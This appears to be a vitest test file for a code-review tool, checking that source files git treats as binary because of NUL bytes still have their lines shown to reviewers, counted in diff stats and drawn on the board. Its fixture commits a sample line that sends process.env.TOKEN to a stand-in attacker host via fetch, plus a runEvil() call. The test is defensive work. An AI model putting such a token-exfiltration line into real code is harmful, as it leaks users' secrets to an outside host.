/** A file that is text but for NUL bytes: git calls it binary; the reviewers, maxDiffLines and the board see its lines. */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { removeTempDirs } from '../../test/helpers/db.js';
import { git, makeRepo } from '../../test/helpers/repo.js';
import { diffStats, diffText } from './diff.js';
import { readPatch } from './patch.js';

afterEach(() => removeTempDirs());

/** A repository whose branch `topic` changes a source file to hold a NUL, adds one, and adds an image (not UTF-8). */
function hostileChange(): string {
  const repo = makeRepo();
  writeFileSync(join(repo, 'app.ts'), 'export const a = 1;\n');
  git(repo, 'add', '-A');
  git(repo, 'commit', '-q', '-m', 'base');
  git(repo, 'checkout', '-q', '-b', 'topic');
  writeFileSync(join(repo, 'app.ts'), 'export const a = 1; // \0\nfetch("https://evil.example/" + process.env.TOKEN);\n');
  // U+FFFD is UTF-8 too: read back, such a file is the blob itself (the test by its id tells).
  writeFileSync(join(repo, 'new.ts'), '// \uFFFD \0\nrunEvil();');
  writeFileSync(join(repo, 'logo.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0xff, 0xfe, 0x80]));
  git(repo, 'add', '-A');
  git(repo, 'commit', '-q', '-m', 'hostile');
  return repo;
}

describe('a file git calls binary for its NUL bytes', () => {
  it("shows the reviewers its lines, each NUL visible, and leaves an image's change binary", async () => {
    const repo = hostileChange();
    const text = await diffText(repo, 'main', 'topic');
    expect(text).toContain('+fetch("https://evil.example/" + process.env.TOKEN);');
    expect(text).toContain('-export const a = 1;');
    expect(text).toContain('+export const a = 1; // \\u{0}');
    expect(text).toContain('+runEvil();\n\\ No newline at end of file');
    expect(text).toContain('+// \uFFFD \\u{0}');
    expect(text.match(/Git calls this file binary for the NUL bytes in it/g)).toHaveLength(2);
    expect(text).toContain('Binary files /dev/null and b/logo.png differ');
    expect(text).not.toContain('\0');
  });

  it('counts its lines toward maxDiffLines, and none for the image', async () => {
    const stats = await diffStats(hostileChange(), 'main', 'topic', []);
    // app.ts: 2 added, 1 deleted; new.ts: 2 added; logo.png: none.
    expect(stats).toMatchObject({ files: ['app.ts', 'logo.png', 'new.ts'], linesAdded: 4, linesDeleted: 1 });
  });

  it('draws its lines on the board, for the whole change and for the file alone, and the image as binary', async () => {
    const repo = hostileChange();
    const files = await readPatch(repo, 'main', 'topic');
    const app = files.find((f) => f.path === 'app.ts')!;
    expect(app).toMatchObject({ binary: false, additions: 2, deletions: 1, collapsed: false });
    expect(app.hunks.flatMap((h) => h.lines.map((l) => `${l.kind} ${l.oldLine ?? '-'} ${l.newLine ?? '-'} ${l.text}`))).toEqual([
      'del 1 - export const a = 1;',
      'add - 1 export const a = 1; // \0',
      'add - 2 fetch("https://evil.example/" + process.env.TOKEN);',
    ]);
    const added = files.find((f) => f.path === 'new.ts')!;
    expect(added).toMatchObject({ binary: false, additions: 2, deletions: 0 });
    expect(added.hunks[0]!.lines.at(-1)).toMatchObject({ kind: 'add', text: 'runEvil();', newLine: 2, noNewline: true });
    expect(files.find((f) => f.path === 'logo.png')).toMatchObject({ binary: true, additions: 0, hunks: [] });
    const [alone] = await readPatch(repo, 'main', 'topic', { file: 'app.ts' });
    expect(alone).toMatchObject({ binary: false, additions: 2, deletions: 1 });
  });

  it('shows a deleted one as its lines going', async () => {
    const repo = hostileChange();
    git(repo, 'checkout', '-q', '-b', 'cleanup');
    git(repo, 'rm', '-q', 'new.ts');
    git(repo, 'commit', '-q', '-m', 'gone');
    const [gone] = await readPatch(repo, 'topic', 'cleanup');
    expect(gone).toMatchObject({ path: 'new.ts', status: 'deleted', binary: false, additions: 0, deletions: 2 });
    expect(await diffText(repo, 'topic', 'cleanup')).toContain('-runEvil();');
  });
});
